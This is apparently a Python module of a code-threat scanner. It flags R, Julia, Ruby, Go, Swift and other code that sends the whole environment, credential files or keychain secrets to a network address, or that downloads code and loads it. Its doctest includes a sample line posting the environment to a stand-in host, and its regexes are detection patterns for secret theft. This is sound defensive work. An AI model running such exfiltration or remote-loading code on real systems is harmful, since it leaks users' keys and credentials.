"""Two flows read in languages that have no analyser of their own (R, Julia, Ruby, Go, Rust,
Java, Kotlin, C#, PHP, Perl, Swift).

- the whole environment (where API keys live) read into a variable, or used as it is, and
  sent in a request to an address written nearby (``env <- Sys.getenv()`` then
  ``POST('https://…', body = env)``), rule ``code.environment-to-network``;
- a credential file (``~/.aws/credentials``, ``~/.pgpass``, an SSH key) named in the code
  and a request sending data to an address written in it, rule
  ``code.credential-file-to-network``;
- code downloaded and then loaded (R's ``source("https://…")``, Julia's
  ``include(download(url))`` or a downloaded path given to ``include``), rule
  ``code.fetched-code-loader`` as in Python, JavaScript and shell.

One variable read from the environment (``Sys.getenv("API_KEY")``) is how a script finds
its key, and a request that carries it is judged as a key by other rules; loading a file
of the package itself is not a download.

>>> r = "env <- Sys.getenv()\\nhttr::POST('https://c.drop.invalid/e', body = as.list(env))"
>>> [(f.rule_id, f.line) for f in other_language_findings("a.R", r)]
[('code.environment-to-network', 2)]
>>> other_language_findings("a.R", "key <- Sys.getenv('API_KEY')\\nGET('https://api.x.invalid')")
[]
"""

from __future__ import annotations

import re

from .destinations import hosts_in, is_local
from .fetched_loaders import RULE_ID as FETCHED_LOADER
from .findings import ThreatFinding, line_finding
from .package_files import R_PROFILES
from .sensitive import CREDENTIAL_PATH
from .structure import TEMPLATE_SUFFIXES

RULE_ID = "code.environment-to-network"
CREDENTIAL_FILE_RULE_ID = "code.credential-file-to-network"
_SUFFIXES = (
    ".r", ".rmd", ".jl", ".rb", ".go", ".rs", ".java", ".kt", ".kts", ".cs", ".php", ".pl",
    ".swift", ".scala", ".groovy", ".lua", ".dart", ".nf", ".gradle",
)  # fmt: skip
_GROOVY_FILES = frozenset({"nextflow.config", "jenkinsfile", "build.gradle", "settings.gradle"})
"""Files of Groovy code by their name: a pipeline's, a build's configuration."""
_TEMPLATE_SUFFIX = re.compile(rf"\.(?:{'|'.join((*TEMPLATE_SUFFIXES, 'in'))})$")
"""A template of a file (and an autoconf ``.in`` one), filled in and written out under the
inner name."""
_WHOLE_ENVIRONMENT = re.compile(
    r"\bSys\.getenv\(\s*\)|\bENV\.(?:to_h|to_hash|to_a|inspect|to_s|each|map|keys|values)\b"
    r"|\bos\.Environ\(\s*\)|\b(?:std::)?env::vars(?:_os)?\(\s*\)|\bSystem\.getenv\(\s*\)"
    r"|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|%ENV\b|\bProcessInfo\.processInfo\.environment\b(?!\s*\[)"
    r"|\bEnvironment\.GetEnvironmentVariables\(\s*\)|\b(?:collect|Dict|string|repr)\(\s*ENV\s*\)"
)
"""The whole environment in R, Ruby, Go, Rust, Java/Kotlin, PHP, Perl, Swift, C#, Julia."""
_ASSIGNED = re.compile(
    r"^\s*(?:(?:val|var|let|const|my|local)\s+)?[$@%]?([A-Za-z_]\w*)\s*(?:<-|:?=)"
)
_NEAR_LINES = 10
"""Lines after the read in which a request carrying it counts."""
_R_REMOTE_SOURCE = re.compile(
    r"\bsource\s*\(\s*(?:url\s*\(\s*)?[\"']https?://"
    r"|\beval\s*\(\s*parse\s*\(\s*text\s*=\s*(?:readLines|httr::content|content|(?:RCurl::)?getURL)\s*\("
)
"""R code run from an address: ``source`` of a URL, or text read from one parsed and run."""
_QUOTED = re.compile(r"\"([^\"\n]{2,200})\"|'([^'\n]{2,200})'")
_DATABASE_PASSWORDS = re.compile(r"\.pgpass\b|\.my\.cnf\b|\.Renviron\b")
"""Files holding database passwords or an R user's keys, beside the stores of
:data:`~.sensitive.CREDENTIAL_PATH`."""
_SEND_CALL = re.compile(
    r"\b(?:POST|PUT|post|put|Post|Put|PostForm|upload\w*|Upload\w*|send_request|request"
    r"|RestClient|HTTPoison|Net::HTTP|curl_exec|http\.NewRequest|reqwest|openConnection)\b"
)
_JULIA_DOWNLOAD = re.compile(r"^\s*(\w+)\s*=\s*(?:Downloads\.)?download\s*\(", re.M)
_JULIA_INCLUDE_DOWNLOAD = re.compile(r"\binclude\s*\(\s*(?:Downloads\.)?download\s*\(")


def _sends_environment(path: str, lines: list[str]) -> list[ThreatFinding]:
    findings = []
    for index, line in enumerate(lines):
        if not _WHOLE_ENVIRONMENT.search(line):
            continue
        assigned = _ASSIGNED.match(line)
        carried = re.compile(rf"\b{re.escape(assigned.group(1))}\b") if assigned else None
        for number in range(index, min(len(lines), index + _NEAR_LINES)):
            later = lines[number]
            hosts = [h for h in hosts_in(later) if not is_local(h)]
            if hosts and (number == index or (carried and carried.search(later))):
                findings.append(
                    line_finding(
                        path,
                        lines,
                        number + 1,
                        "8.2",
                        "critical",
                        f"sends the whole environment (line {index + 1}) to {hosts[0]}",
                        RULE_ID,
                    )
                )
                break
    return findings


_URL_CONSTANT = re.compile(
    r"^\s*(?:(?:val|var|let|const|my|local|final|static|private|public)\s+)*[$@]?([A-Z][A-Z0-9_]*)"
    r"\s*(?::\s*[\w.]+\s*)?(?:<-|:?=)[^\n]*?(https?://[^\s'\"()]+)"
)
"""A constant holding an address (``SYNC = URI('https://…')``): a request naming it goes
there."""


def _url_constants(lines: list[str]) -> dict[str, str]:
    return {m.group(1): m.group(2) for line in lines if (m := _URL_CONSTANT.match(line))}


def _sends_credential_files(path: str, lines: list[str]) -> list[ThreatFinding]:
    """A finding at the request that sends data to a written host, in code that names a
    credential file in a string (read through whatever helper the script defines)."""
    named = [
        literal
        for line in lines
        for match in _QUOTED.finditer(line)
        if (literal := match.group(1) or match.group(2))
        and (CREDENTIAL_PATH.search(literal) or _DATABASE_PASSWORDS.search(literal))
        and "/" in literal.replace("\\", "/")
    ]
    if not named:
        return []
    constants = _url_constants(lines)
    for number, line in enumerate(lines, 1):
        if not _SEND_CALL.search(line):
            continue
        urls = (url for name, url in constants.items() if re.search(rf"\b{name}\b", line))
        hosts = [h for h in hosts_in(" ".join((line, *urls))) if not is_local(h)]
        if hosts:
            return [
                line_finding(
                    path,
                    lines,
                    number,
                    "8.2",
                    "critical",
                    f"sends data to {hosts[0]} from code that reads {named[0]}, a credential file",
                    CREDENTIAL_FILE_RULE_ID,
                )
            ]
    return []


def _loads_download(path: str, text: str, lines: list[str]) -> list[ThreatFinding]:
    hit = _R_REMOTE_SOURCE.search(text) or _JULIA_INCLUDE_DOWNLOAD.search(text)
    if hit is None:
        for saved in _JULIA_DOWNLOAD.finditer(text):
            hit = re.search(
                rf"\binclude\s*\(\s*{re.escape(saved.group(1))}\s*\)", text[saved.end() :]
            )
            if hit:
                hit = saved
                break
    if hit is None:
        return []
    number = text.count("\n", 0, hit.start()) + 1
    description = "downloads code and loads it (R's source of a URL, Julia's include of a download)"
    return [line_finding(path, lines, number, "9.1", "high", description, FETCHED_LOADER)]


_EVERY_SECRET_ITEM = re.compile(r"\bkSecMatchLimitAll\b")
_SECRET_VALUES = re.compile(r"\bkSecReturnData\b")
"""A keychain query for every stored item, with its secret value (not one item the app
saved for itself)."""
_POSTED = re.compile(r"\bhttpMethod\s*=\s*\"(?:POST|PUT)\"|\bupload(?:Task)?\s*\(")


def _sends_keychain(path: str, text: str, lines: list[str]) -> list[ThreatFinding]:
    """Every password of the keychain read, in code that posts to an address written in it."""
    if not (_EVERY_SECRET_ITEM.search(text) and _SECRET_VALUES.search(text)):
        return []
    hosts = sorted(h for h in hosts_in(text) if not is_local(h))
    send = _POSTED.search(text) or _SEND_CALL.search(text)
    if not hosts or send is None:
        return []
    return [
        line_finding(
            path,
            lines,
            text.count("\n", 0, send.start()) + 1,
            "8.2",
            "critical",
            f"sends data to {hosts[0]} from code that reads every password of the keychain",
            CREDENTIAL_FILE_RULE_ID,
        )
    ]


def other_language_findings(path: str, text: str) -> list[ThreatFinding]:
    """Environment sends and loaded downloads in a file of a language without an analyser."""
    lowered = _TEMPLATE_SUFFIX.sub("", path.lower())
    name = lowered.rsplit("/", 1)[-1]
    if not lowered.endswith(_SUFFIXES) and name not in R_PROFILES and name not in _GROOVY_FILES:
        return []
    lines = text.splitlines()
    return (
        _sends_environment(path, lines)
        + _sends_credential_files(path, lines)
        + _sends_keychain(path, text, lines)
        + _loads_download(path, text, lines)
    )
